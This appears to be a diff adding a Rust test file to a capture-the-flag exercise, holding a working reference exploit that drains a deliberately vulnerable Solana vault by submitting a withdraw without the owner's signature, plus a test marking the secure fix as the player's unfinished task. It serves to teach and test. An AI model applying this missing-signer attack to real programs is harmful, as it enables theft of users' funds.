@@ -0,0 +1,65 @@
+//! Reference exploit for steel-vault, the Steel port of missing-signer-check.
+//!
+//! The victim deposits lamports into their vault PDA, then an attacker sends
+//! `steel_vault_api::sdk::withdraw` with the victim's `is_signer` flag cleared
+//! and only their own signature.
+
+use ctf_fixtures::assertions::{assert_instruction_fails_with, assert_lamport_drain, lamports};
+use ctf_fixtures::{without_signature, CtfEnvironment};
+use solana_sdk::signature::Signer;
+use steel_vault_api::prelude::*;
+
+const DEPOSIT: u64 = 1_000_000_000;
+
+#[tokio::test]
+async fn attacker_drains_steel_vault_without_the_owner_signature() {
+    let mut env = CtfEnvironment::builder()
+        .seed(CHALLENGE_ID)
+        .players(1)
+        .victims(1)
+        .build()
+        .await;
+    let victim = env.victims[0].pubkey();
+    let attacker = env.players[0].insecure_clone();
+    let owner = env.victims[0].insecure_clone();
+    let vault = env.open_steel_vault(&owner, DEPOSIT).await.expect("victim vault setup");
+    let before = lamports(&mut env.context.banks_client, &vault).await;
+
+    env.process(
+        &[without_signature(
+            steel_vault_api::sdk::withdraw(victim, attacker.pubkey(), DEPOSIT),
+            &victim,
+        )],
+        &[&attacker],
+    )
+    .await
+    .expect("unsigned withdraw");
+
+    assert_lamport_drain(&mut env.context.banks_client, &vault, before, DEPOSIT).await;
+}
+
+#[tokio::test]
+async fn secure_withdraw_is_the_player_todo() {
+    let mut env = CtfEnvironment::builder()
+        .seed(CHALLENGE_ID)
+        .players(1)
+        .victims(1)
+        .build()
+        .await;
+    let victim = env.victims[0].pubkey();
+    let attacker = env.players[0].insecure_clone();
+    let owner = env.victims[0].insecure_clone();
+    env.open_steel_vault(&owner, DEPOSIT).await.expect("victim vault setup");
+
+    assert_instruction_fails_with(
+        env.process(
+            &[without_signature(
+                steel_vault_api::sdk::secure_withdraw(victim, attacker.pubkey(), DEPOSIT),
+                &victim,
+            )],
+            &[&attacker],
+        )
+        .await,
+        VaultError::NotImplemented,
+    );
+}